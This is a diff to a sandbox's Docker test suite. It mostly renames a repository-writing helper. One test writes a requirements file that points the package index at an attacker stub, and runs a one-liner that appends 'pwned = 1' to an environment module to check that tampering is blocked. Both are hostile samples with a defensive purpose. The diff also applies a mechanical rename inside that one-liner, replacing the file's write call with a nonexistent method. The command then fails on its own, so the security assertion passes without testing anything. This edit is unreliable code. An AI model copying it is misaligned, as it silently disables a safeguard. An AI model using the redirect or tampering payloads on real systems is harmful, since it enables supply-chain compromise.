@@ -19,6 +19,7 @@ from sandbox.config import SandboxConfig
 from sandbox.docker_backend import DockerSandbox
 from tests.conftest import git_init
 from tests.http_stub import http_stub
+from tests.repo_samples import write
 
 pytestmark = pytest.mark.docker
 
@@ -49,12 +50,8 @@ CALC_BREAK = (
 )
 
 
-def write(root: Path, files: dict[str, str]) -> Path:
-    for name, text in files.items():
-        path = root / name
-        path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text(text)
-    return git_init(root)
+def write_repo(root: Path, files: dict[str, str]) -> Path:
+    return git_init(write(root, files))
 
 
 @pytest.fixture
@@ -67,7 +64,7 @@ def data_home(tmp_path, monkeypatch):
 
 @pytest.fixture
 def yaml_repo(tmp_path):
-    return write(
+    return write_repo(
         tmp_path / "yaml-repo",
         {
             "pyproject.toml": '[project]\nname = "conf"\nversion = "0"\n'
@@ -84,7 +81,7 @@ def yaml_repo(tmp_path):
 @pytest.fixture
 def calc_repo(tmp_path):
     """`sub` is wrong (its test fails) and `test_slow` fails whatever the patch."""
-    return write(
+    return write_repo(
         tmp_path / "calc-repo",
         {
             "pkg/__init__.py": "",
@@ -173,7 +170,7 @@ def test_a_repository_cannot_redirect_prepare_and_checks_cannot_write_the_env(
         return 404, {}
 
     with http_stub(attacker) as evil:
-        repo = write(
+        repo = write_repo(
             tmp_path / "evil-repo",
             {
                 "requirements.txt": f"--index-url {evil}/simple\n"
@@ -192,7 +189,7 @@ def test_a_repository_cannot_redirect_prepare_and_checks_cannot_write_the_env(
 
     with docker_box(repo) as box:
         write_env = box.run(
-            ["python", "-c", "open('/opt/lsp-agent-env/six.py', 'a').write('pwned = 1')"]
+            ["python", "-c", "open('/opt/lsp-agent-env/six.py', 'a').write_repo('pwned = 1')"]
         )
         imported = box.run(["python", "-c", "import six; print(six.__file__)"])
     assert write_env.exit_code != 0
